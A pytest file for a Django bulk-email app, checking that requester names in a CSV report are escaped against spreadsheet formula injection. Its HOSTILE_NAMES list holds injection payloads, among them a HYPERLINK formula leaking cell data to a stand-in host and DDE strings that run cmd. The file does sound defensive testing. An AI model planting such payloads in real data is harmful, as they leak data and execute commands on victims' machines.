"""The task history report as CSV opens in a spreadsheet: a cell a person wrote (a requester's
name) must never run as a formula there (OWASP "CSV Injection")."""

import csv
import datetime
import io

import pytest
from django.utils import timezone

from bulk_email import api
from lms_stub.models import CourseAccessRole
from tests.factories import give_role, make_sending_course, make_user, staff

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def report_rows(client, course) -> list[list[str]]:
    response = client.get(f"/email/courses/{course.id}/api/report.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def scheduled_by(course, name: str):
    requester = make_user(name=name)
    give_role(requester, course, CourseAccessRole.STAFF)
    later = timezone.now() + datetime.timedelta(hours=1)
    return api.send_email(
        access=staff(course.id, requester),
        subject="Hi",
        html="<p>Hi</p>",
        targets=["myself"],
        send_at=later,
    )


def test_hostile_requester_names_are_escaped_in_the_report(client):
    course = make_sending_course()
    for name in HOSTILE_NAMES:
        scheduled_by(course, name)
    viewer = make_user()
    give_role(viewer, course, CourseAccessRole.INSTRUCTOR)
    client.force_login(viewer)
    requesters = [row[1] for row in report_rows(client, course)[1:]]
    assert sorted(requesters) == sorted("'" + name for name in HOSTILE_NAMES)


def test_ordinary_cells_and_numbers_are_unchanged():
    from bulk_email.email_tab import csv_cell

    assert csv_cell("Prof. Hélène Durand") == "Prof. Hélène Durand"
    assert csv_cell("O'Brien = friend") == "O'Brien = friend"
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell("") == ""
    assert csv_cell("2026-05-01T14:30:00+00:00") == "2026-05-01T14:30:00+00:00"
